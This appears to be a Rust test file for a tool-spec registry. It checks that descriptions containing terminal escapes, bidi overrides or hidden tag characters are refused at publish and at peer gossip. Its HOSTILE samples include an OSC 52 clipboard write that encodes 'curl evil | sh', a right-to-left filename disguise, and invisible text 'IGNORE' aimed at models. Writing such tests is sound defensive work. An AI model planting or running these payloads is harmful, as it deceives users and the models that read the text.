//! Issue 14 item 5: a spec whose text holds terminal escapes or bidi overrides is refused at
//! publish (the local API) and at gossip ingest (a real peer sends it over libp2p), where the
//! refusal counts against that peer.

use std::time::Duration;

use atr_protocol::api::{ApiErrorBody, PublishRequest};
use atr_protocol::id::ByteBuf;
use atr_protocol::signed::signing_message;
use atr_protocol::wire::{self, WireObject};
use reqwest::StatusCode;
use serde_json::json;

use crate::harness::*;

const T: Duration = Duration::from_secs(20);

/// Descriptions a hostile publisher would like terminals and models to read.
const HOSTILE: [&str; 3] = [
    // Clear the screen, move the cursor home, write the clipboard (OSC 52).
    "Adds numbers.\u{1b}[2J\u{1b}[H\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}",
    // Right-to-left override: shows `add.txt`, is `txt.dda`.
    "Adds numbers. Output file: \u{202e}txt.dda",
    // Invisible tag characters: "IGNORE" only a model sees.
    "Adds numbers.\u{e0049}\u{e0047}\u{e004e}\u{e004f}\u{e0052}\u{e0045}",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_14_publish_refuses_escapes_and_bidi_naming_the_field() {
    init_tracing();
    let t = start_node(210, vec![]).await;
    let api = Api::new(&t);
    for (i, description) in HOSTILE.iter().enumerate() {
        let mut body = serde_json::to_value(PublishRequest {
            manifest: manifest(&format!("hostile{i}"), "1.0.0", &["x"]),
            file: Some("hostile.toml".into()),
        })
        .unwrap();
        body["manifest"]["description"] = json!(description);
        let resp = api
            .http
            .post(format!("{}/v1/publish", api.base))
            .bearer_auth(&api.token)
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY, "{description:?}");
        let err: ApiErrorBody = resp.json().await.unwrap();
        assert_eq!(err.code.to_string(), "invalid_manifest");
        assert_eq!(err.field.as_deref(), Some("description"));
        assert!(
            err.message.contains("U+"),
            "names the code point: {}",
            err.message
        );
    }
    // A property description inside the input schema is refused too, and named.
    let mut body = serde_json::to_value(PublishRequest {
        manifest: manifest("schema_text", "1.0.0", &["x"]),
        file: None,
    })
    .unwrap();
    body["manifest"]["input_schema"]["properties"]["a"]["description"] = json!("first\u{202e} number");
    let resp = api
        .http
        .post(format!("{}/v1/publish", api.base))
        .bearer_auth(&api.token)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let err: ApiErrorBody = resp.json().await.unwrap();
    assert_eq!(err.field.as_deref(), Some("input_schema"));
    assert!(
        err.message.contains("/properties/a/description") && err.message.contains("U+202E"),
        "{}",
        err.message
    );
    assert_eq!(t.node.repo().counts().unwrap().specs, 0, "nothing was stored");
    t.node.shutdown().await.unwrap();
}

async fn bad_count(honest: &atrd::Node, rogue: libp2p::PeerId) -> u64 {
    honest
        .net()
        .status()
        .await
        .map(|s| {
            s.peers
                .iter()
                .find(|p| p.peer == rogue.to_string())
                .map(|p| p.bad_messages)
                .unwrap_or(0)
        })
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue_14_gossip_of_a_signed_spec_with_hidden_text_is_rejected_and_counted() {
    init_tracing();
    let nodes = start_network(2, 212).await;
    let honest = &nodes[0].node;
    let rogue = &nodes[1].node;
    wait_for(T, "gossip mesh formed", || async {
        rogue
            .net()
            .status()
            .await
            .map(|s| s.mesh_peers > 0)
            .unwrap_or(false)
    })
    .await;
    let key = &rogue.identity().secret;
    let before = honest.repo().counts().unwrap().specs;
    let mut ids = Vec::new();
    for (i, description) in HOSTILE.iter().enumerate() {
        // The rogue's own, correctly signed spec: only the text rule is broken, so it is the
        // rule (not the signature) that refuses it. Signed by hand, as `SignedSpec::sign`
        // validates first.
        let mut spec = manifest(&format!("sneaky{i}"), "1.0.0", &["x"])
            .to_spec(
                "test.toml",
                rogue.public_key(),
                1_764_000_000_000 + i as u64,
                None,
            )
            .unwrap();
        spec.description = (*description).to_owned();
        let body = atr_protocol::cbor::to_canonical(&spec).unwrap();
        ids.push(atr_protocol::ToolId::of(&body));
        let sig = key.sign(&signing_message(b"atr-spec-v1", &body));
        let envelope = [
            vec![0x82, 0x59],
            (body.len() as u16).to_be_bytes().to_vec(),
            body,
            vec![0x58, 64],
            sig.0.to_vec(),
        ]
        .concat();
        let msg = wire::encode_message(&WireObject::Spec(ByteBuf(envelope))).unwrap();
        rogue.net().publish(msg).await.unwrap();
    }
    wait_for(T, "3 rejections counted against the rogue", || async {
        bad_count(honest, rogue.peer_id()).await >= 3
    })
    .await;
    assert_eq!(
        honest.repo().counts().unwrap().specs,
        before,
        "nothing reached the store"
    );
    for id in &ids {
        assert!(honest.repo().spec(id).is_none());
    }
    for t in nodes {
        t.node.shutdown().await.unwrap();
    }
}
